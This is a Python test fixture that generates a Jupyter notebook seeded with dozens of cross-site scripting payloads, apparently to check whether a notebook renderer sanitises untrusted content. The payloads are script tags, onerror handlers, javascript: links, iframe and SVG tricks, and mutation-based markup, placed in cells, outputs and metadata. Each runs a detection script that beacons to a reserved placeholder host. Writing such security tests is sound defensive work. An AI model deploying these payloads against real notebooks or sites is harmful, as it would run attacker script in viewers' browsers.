"""A learner's notebook that tries to run a script in the browser of whoever looks at it, beside an honest plot."""

import base64
import io

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

# What each payload runs: a test finds it in the title of the page, in its dialogs or in its requests.
RUN = "document.title='ran-{0}';window.ran=(window.ran||'')+' {0}';fetch('http://ran.invalid/{0}');alert('{0}')"

_MARKDOWN = {
    "script": "<script>{0}</script>",
    "event": '<img src=x onerror="{0}">',
    "link": "[press me](javascript:{0})",
    "html link": '<a href="javascript:{0}">press me</a>',
    "link with a tab": '<a href="java&#9;script:{0}">press me</a>',
    "reference": "[press me][r]\n\n[r]: javascript:{0}",
    "autolink": "<javascript:{0}>",
    "picture": '![x](x" onerror="{0})',
    "details": '<details open ontoggle="{0}"><summary>s</summary></details>',
    "frame": '<iframe srcdoc="<script>parent.eval(`{0}`)</script>"></iframe>',
    "data frame": '<iframe src="javascript:{0}"></iframe>',
    "svg": '<svg onload="{0}"><script>{0}</script></svg>',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={0}&gt;">',
    "comment": "<!-- --!><img src=x onerror={0}> -->",
    "unclosed": '<img src=x onerror="{0}" ',
    "code": "```\n</pre><img src=x onerror={0}>\n```\n\n`<img src=x onerror={0}>`",
    "code language": '```x"><img/src=x/onerror={0}>\nx\n```',
    "heading": '# x" onmouseover="{0}" <img src=x onerror={0}>',
    "style": "<style>@import 'http://ran.invalid/style';</style><p style=\"background:url(http://ran.invalid/css)\">x</p>",
    "base": "<base href='http://ran.invalid/'><meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "form": "<form action='javascript:{0}'><button autofocus onfocus='{0}'>press me</button></form>",
    "object": "<object data='javascript:{0}'></object><embed src='javascript:{0}'>",
    "missing attachment": "![x](attachment:nothing) <img src=x onerror={0}>",
    "mathjax": "$$\\href{{javascript:{0}}}{{x}}$$ <script type='text/x-mathjax-config'>{0}</script>",
}
_OUTPUTS = {
    "text/html": '<img src=x onerror="{0}"><script>{0}</script>',
    "application/javascript": "{0}",
    "text/markdown": '<img src=x onerror="{0}"> [press me](javascript:{0})',
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{0}\"><script>{0}</script></svg>",
    "text/latex": '<img src=x onerror="{0}">',
    "text/plain": '<img src=x onerror="{0}">',
    "image/png": '"><img src=x onerror="{0}">',
    "image/jpeg": '"><script>{0}</script>',
    "text/vnd.mermaid": 'graph TD; a["<img src=x onerror={0}>"]; click a href "javascript:{0}"',
    "application/vnd.jupyter.widget-view+json": "</script><script>{0}</script>",
    "text/html; x": "<script>{0}</script>",
}


def plot() -> str:
    """An honest plot, as a PNG in base64."""
    from matplotlib.figure import Figure

    figure, file = Figure((2, 1)), io.BytesIO()
    figure.add_subplot().plot([1, 3, 2])
    figure.savefig(file, format="png")
    return base64.b64encode(file.getvalue()).decode()


def add_payloads(notebook: nbformat.NotebookNode) -> int:
    """Add an honest plot and every payload to a notebook, and return the number of payloads."""
    names = iter(range(1000))
    for text in _MARKDOWN.values():
        notebook.cells.append(new_markdown_cell(text.format(RUN.format(next(names)))))
    for kind, text in _OUTPUTS.items():
        output = new_output("display_data", data={kind: text.format(RUN.format(next(names)))})
        notebook.cells.append(new_code_cell("1", outputs=[output]))
    isolated = new_output(
        "display_data",
        data={"text/html": f"<script>parent.eval(`{RUN.format(next(names))}`)</script>", "image/png": plot()},
        metadata={
            "text/html": {"isolated": True},
            "image/png": {"width": f"1 onload={RUN.format(next(names))}", "alt": '"><script>'},
            "filenames": {"image/png": "http://ran.invalid/file"},
        },
    )
    notebook.cells += [
        new_code_cell(
            "2", outputs=[isolated], metadata={"tags": [f'"><img src=x onerror="{RUN.format(next(names))}">']}
        ),
        new_raw_cell(f"<script>{RUN.format(next(names))}</script>", metadata={"raw_mimetype": "text/html"}),
        new_raw_cell(f"<img src=x onerror={RUN.format(next(names))}>"),
        new_code_cell(
            f"%%html\n<script>{RUN.format(next(names))}</script>", metadata={"magics_language": '"><script>'}
        ),
        new_code_cell("plot", outputs=[new_output("display_data", data={"image/png": plot(), "text/plain": "plot"})]),
    ]
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version": 2}}
    notebook.metadata["title"] = f"</title><script>{RUN.format(next(names))}</script>"
    notebook.metadata["language_info"] = {"name": f'"><script>{RUN.format(next(names))}</script>'}
    return next(names)
